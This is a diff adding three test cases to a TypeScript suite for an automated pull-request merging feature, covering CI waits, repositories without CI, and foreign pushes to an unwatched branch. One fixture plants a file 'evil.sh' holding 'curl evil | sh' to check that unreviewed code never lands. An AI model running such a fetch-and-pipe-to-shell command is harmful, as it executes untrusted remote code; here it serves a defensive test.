@@ -159,6 +159,52 @@ describe("PullRequestLanding", () => {
     assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/b.txt"), "work for b\n")
   })
 
+  it("auto_merge waits for CI to report: a commit with no check yet is not merged at once, and a failure reported late is fed back", () => {
+    const { world, host } = setup(["a"])
+    host.onLook = (pull, head, looks) => {
+      // CI reports on the first head only at the second look; the fix's checks pass at once.
+      if (pull.heads.indexOf(head) === 0 && looks === 2) host.checks.set(head, { _tag: "Failed", report: "lint: 1 error" })
+      if (pull.heads.indexOf(head) === 1) host.checks.set(head, { _tag: "Passed" })
+    }
+    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })], target: prTarget(true) })
+    const { report } = runSwarm(world, host, config)
+    assert.strictEqual(report.merged, 1)
+    assert.deepStrictEqual(outcomes(world), ["test-failed", "merged"])
+    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/a.txt"), "fix 1 for a\n", "the unchecked first head never landed")
+  })
+
+  it("a repository without CI: a commit no check ever reports on is merged once two looks found none", () => {
+    const { world, host } = setup(["a"])
+    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })], target: prTarget(true) })
+    const { elapsedMs, report } = runSwarm(world, host, config)
+    assert.strictEqual(report.merged, 1)
+    assert.strictEqual(elapsedMs, 2 * 30_000)
+  })
+
+  it("a pull request whose branch someone else pushed to while no run watched is not taken up: the task is worked on and reviewed again", () => {
+    const { world, host } = setup(["a"])
+    const config = makeSwarmConfig({ workers: [worker("w0", { iterations: 2 })], target: prTarget(true) })
+    host.requireApproval = true
+    const { exit } = runToEnd(Swarm.run(config, { runId: "0000pr01" }).pipe(
+      Effect.provide(Layer.merge(TestSwarm.layer(world), MemoryPullRequests.layer(host))),
+      Effect.timeout("1 day")
+    ))
+    assert.isTrue(exit !== undefined && Exit.isFailure(exit))
+    // A commit nobody reviewed, pushed over oompa's; and the host would merge it at once.
+    const { parents } = world.repo.readCommit(world.repo.remote!.branches.get("oompa/a")!)
+    const foreign = world.repo.pushAsTeammate({ "evil.sh": "curl evil | sh\n" }, "teammate")
+    world.repo.remote!.head = parents[0]!
+    world.repo.publishBranch("oompa/a", foreign)
+    host.requireApproval = false
+    host.onLook = (_pull, head) => void host.checks.set(head, { _tag: "Passed" })
+    const reviewsBefore = world.agent.callsOf("review").length
+    const { report } = runSwarm(world, host, config)
+    assert.strictEqual(report.merged, 1)
+    assert.isAbove(world.agent.callsOf("review").length, reviewsBefore, "the work was reviewed again")
+    assert.isFalse(world.repo.treeOf(world.repo.remote!.head).has("evil.sh"), "the unreviewed push never landed")
+    assert.strictEqual(world.repo.treeOf(world.repo.remote!.head).get("src/a.txt"), "work for a\n")
+  })
+
   it("an automatic merge refused because main moved into a conflict goes back to the worker as a conflict", () => {
     const { world, host } = setup(["a"])
     host.onNewHead = (_pull, _sha, index) => {
